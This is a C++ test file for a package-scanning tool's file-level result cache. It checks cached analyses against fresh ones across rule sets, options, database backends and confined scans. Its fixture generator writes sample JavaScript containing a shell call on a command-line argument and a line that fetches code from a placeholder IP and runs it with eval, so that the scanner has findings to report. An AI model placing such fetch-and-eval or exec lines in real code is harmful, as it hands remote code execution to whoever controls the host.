// The file-level result cache in the risk database: a file analysed once (by an earlier run, in
// another package or an earlier version) is read back, not analysed again, under the same rules
// and options only, and gives exactly what a fresh analysis gives.
#include <catch2/catch.hpp>

#include <sstream>

#include "analyzer/db/file_result_store.h"
#include "analyzer/db/risk_db.h"
#include "analyzer/engine/file_outcome_codec.h"
#include "analyzer/report/scan_report.h"
#include "analyzer/scan/package_work.h"
#include "analyzer/scan/scanner.h"
#include "analyzer/scan/stored_file_cache.h"
#include "tests/support/db_samples.h"
#include "tests/support/engine_samples.h"
#include "tests/support/pack.h"
#include "tests/support/postgres_server.h"
#include "tests/support/process.h"

using namespace tarsier;
using tarsier::test::must;

namespace {

// Over FileMemo::k_min_bytes, so the file is worth a lookup; `findings` adds a shell call.
std::string source(const std::string& name, bool findings) {
  std::string s = "// " + name + "\n";
  if (findings) {
    s += "const cp = require('child_process');\ncp.exec(process.argv[2]);\n";
    s += "fetch('http://198.51.100.7/x').then((r) => r.text()).then(eval);\n";
  }
  for (int i = 0; s.size() < 2048; ++i)
    s += "function " + name + std::to_string(i) + "(x) { return x * " + std::to_string(i) + "; }\n";
  return s;
}

std::vector<std::pair<std::string, std::string>> package_files(const std::string& name,
                                                               const std::string& util) {
  return {{"package.json", R"({"name":")" + name + R"(","version":"1.0.0"})"},
          {"lib/run.js", source("run", true)},
          {"lib/util.js", util},
          {"lib/more.js", source("more", false)}};
}

std::vector<ArchiveEntry> entries(const std::vector<std::pair<std::string, std::string>>& files) {
  std::vector<ArchiveEntry> out;
  for (const auto& [path, data] : files) {
    out.push_back({path, data});
  }
  return out;
}

std::unique_ptr<StoredFileCache> open_cache(const std::string& db, const std::string& version) {
  auto cache = StoredFileCache::open(db, version);
  INFO((cache ? "" : cache.error().str()));
  REQUIRE(cache);
  return std::move(*cache);
}

std::string migrated_sqlite(const test::TempDir& dir) {
  std::string path = dir.path() + "/risk.db";
  must(RiskDb::open(path));
  return path;
}

// Findings as one comparable text: rule, place, severity, evidence, message.
std::string findings_text(const PackageAnalysis& a) {
  std::ostringstream out;
  for (const auto& f : a.findings) {
    out << f.rule << " " << f.file << ":" << f.line << ":" << f.column << " "
        << to_string(f.severity) << (f.install_time ? " install" : "") << " [" << f.snippet << "] "
        << f.message << "\n";
  }
  out << to_string(a.risk);
  for (const auto& t : a.threats)
    out << " " << t;
  for (const auto& c : a.capabilities)
    out << " " << c;
  return out.str();
}

// The JSON report of one archive scanned by a new Scanner (and a new analyzer, so nothing is
// answered from memory) recording into `db_target`, in this process or in a confined worker;
// the scan's file cache counts go to `stats`.
std::string scan_report_json(const std::string& db_target, const std::string& name,
                             const std::string& archive, bool confined = false,
                             ScanStats* stats = nullptr, const std::string& version = "1.0.0") {
  auto db = must(RiskDb::open(db_target));
  REQUIRE(db != nullptr);
  ScanRecord record{"scan", {name + ".tgz"}, "test", "rules", "", ""};
  int64_t scan_id = must(db->begin_scan(record));
  REQUIRE(scan_id > 0);
  ScanOptions options;
  options.cache_dir = "";
  options.confine.enabled = confined;
  std::shared_ptr<const Analyzer> analyzer = test::new_analyzer();
  Scanner scanner(options, {}, analyzer, db.get(), scan_id);
  PackageRef ref = test::sample_ref(name, version);
  ref.source = "file";
  ref.resolved = name + ".tgz";
  ScanReport report;
  report.tool_version = "test";
  report.packages.push_back(scanner.scan_archive(ref, archive, ArchiveKind::npm_tarball));
  REQUIRE(report.packages.back().findings.size() > 2);
  if (stats != nullptr) {
    *stats = scanner.stats();
  }
  std::ostringstream out;
  write_json_report(report, out);
  return out.str();
}

}  // namespace

TEST_CASE("a stored file outcome reads back byte for byte", "[db][file-cache]") {
  FileOutcome outcome;
  outcome.parsed = true;
  outcome.minified = 0.125;
  outcome.obfuscated = 1.0 / 3;
  Signal s;
  s.finding = {"js-exec-call",
               "shell",
               Risk::medium,
               "runs a command",
               "a.js",
               3,
               7,
               std::string("cp.exec(\"\xff\0x\")", 15),
               true};
  s.tags = {"exec", "shell"};
  s.begin = 10;
  s.end = 42;
  s.whole_file = false;
  s.hidden = true;
  outcome.signals.push_back(s);
  auto back = decode_file_outcome(encode_file_outcome(outcome), "b/other.js");
  REQUIRE(back);
  CHECK(back->minified == outcome.minified);
  CHECK(back->obfuscated == outcome.obfuscated);
  REQUIRE(back->signals.size() == 1);
  const Signal& r = back->signals[0];
  CHECK(r.finding.file == "b/other.js");
  CHECK(r.finding.snippet == s.finding.snippet);
  CHECK(r.finding.line == 3);
  CHECK(r.finding.column == 7);
  CHECK(r.finding.install_time);
  CHECK(r.tags == s.tags);
  CHECK((r.begin == 10 && r.end == 42 && !r.whole_file && r.hidden));
  CHECK_FALSE(decode_file_outcome("not an outcome", "x"));
  CHECK_FALSE(decode_file_outcome(encode_file_outcome(outcome).substr(0, 40), "x"));
}

TEST_CASE(
    "the file cache answers unchanged files and misses on changed ones, other rules or "
    "options",
    "[db][file-cache]") {
  test::TempDir dir;
  std::string db = migrated_sqlite(dir);
  const std::string util = source("util", false);
  PackageAnalysis fresh;
  {
    auto cache = open_cache(db, "0.1.0/rules-a");
    fresh = test::new_analyzer()->analyze(test::sample_ref("a"), entries(package_files("a", util)),
                                          {}, cache.get());
    CHECK(fresh.stored_files == 0);
  }  // written when the cache closes

  SECTION("an identical package is answered from the database with identical findings") {
    auto cache = open_cache(db, "0.1.0/rules-a");
    auto again = test::new_analyzer()->analyze(test::sample_ref("a"),
                                               entries(package_files("a", util)), {}, cache.get());
    CHECK(again.stored_files == 3);
    CHECK(again.parsed_files == 0);
    CHECK(findings_text(again) == findings_text(fresh));
    CHECK(cache->hits() == 3);
  }
  SECTION("a new version re-analyses only its changed file") {
    auto cache = open_cache(db, "0.1.0/rules-a");
    auto files = package_files("a", source("util", true));
    auto bumped = test::new_analyzer()->analyze(test::sample_ref("a", "1.0.1"), entries(files), {},
                                                cache.get());
    CHECK(bumped.stored_files == 2);
    auto reference =
        test::new_analyzer()->analyze(test::sample_ref("a", "1.0.1"), entries(files), {}, nullptr);
    CHECK(findings_text(bumped) == findings_text(reference));
    CHECK(findings_text(bumped).find("lib/util.js:") != std::string::npos);
  }
  SECTION("another ruleset or tool version misses") {
    auto cache = open_cache(db, "0.1.0/rules-b");
    auto other = test::new_analyzer()->analyze(test::sample_ref("a"),
                                               entries(package_files("a", util)), {}, cache.get());
    CHECK(other.stored_files == 0);
    CHECK(findings_text(other) == findings_text(fresh));
  }
  SECTION("other analysis options miss") {
    auto cache = open_cache(db, "0.1.0/rules-a");
    AnalyzerOptions full;
    full.full_parse = true;
    auto other = test::new_analyzer(full)->analyze(
        test::sample_ref("a"), entries(package_files("a", util)), {}, cache.get());
    CHECK(other.stored_files == 0);
  }
}

TEST_CASE("a scan answered by the file cache reports what a fresh scan reports, on each backend",
          "[db][file-cache][postgres]") {
  test::TempDir dir;
  auto backend = GENERATE(as<std::string>{}, "sqlite", "postgresql");
  INFO(backend);
  auto target = [&](const std::string& name) {
    return backend == "postgresql" ? test::PostgresServer::shared().fresh_database()
                                   : dir.path() + "/" + name + ".db";
  };
  const std::string util = source("util", false);
  std::string first = test::pack_npm_files(package_files("first", util));
  std::string second = test::pack_npm_files(package_files("second", util));

  // `second` holds the same code as `first` under another name: a package-level miss, three
  // file-level hits.
  std::string warm = target("warm");
  scan_report_json(warm, "first", first);
  std::string version = analyzer_version_of(*test::new_analyzer());
  {
    auto store = FileResultStore::open(warm);
    REQUIRE(store);
    auto stored = (*store)->count(version);
    REQUIRE(stored);
    CHECK(*stored == 3);
  }
  std::string cached = scan_report_json(warm, "second", second);
  std::string fresh = scan_report_json(target("cold"), "second", second);
  CHECK(cached == fresh);
}

TEST_CASE("a confined scan of a version bump analyses only the changed files",
          "[db][file-cache][confine]") {
  test::TempDir dir;
  auto files = package_files("bumped", source("util", false));
  for (int i = 0; i < 5; ++i) {
    std::string name = "part" + std::to_string(i);
    files.emplace_back("lib/" + name + ".js", source(name, false));
  }
  auto next = files;
  next[0].second = R"({"name":"bumped","version":"1.0.1"})";
  next[2].second = source("util", true);  // lib/util.js changes, seven files do not

  ScanStats first, second, cold;
  std::string warm = dir.path() + "/warm.db";
  scan_report_json(warm, "bumped", test::pack_npm_files(files), true, &first);
  CHECK(first.file_cache_hits == 0);
  CHECK(first.file_cache_misses == 8);
  std::string archive = test::pack_npm_files(next);
  std::string cached = scan_report_json(warm, "bumped", archive, true, &second, "1.0.1");
  CHECK(second.file_cache_hits == 7);
  CHECK(second.file_cache_misses == 1);
  CHECK(cached.find("lib/util.js") != std::string::npos);
  std::string fresh =
      scan_report_json(dir.path() + "/cold.db", "bumped", archive, true, &cold, "1.0.1");
  CHECK(cold.file_cache_hits == 0);
  CHECK(cached == fresh);
  CHECK(cached == scan_report_json(dir.path() + "/unconfined.db", "bumped", archive, false, nullptr,
                                   "1.0.1"));
}
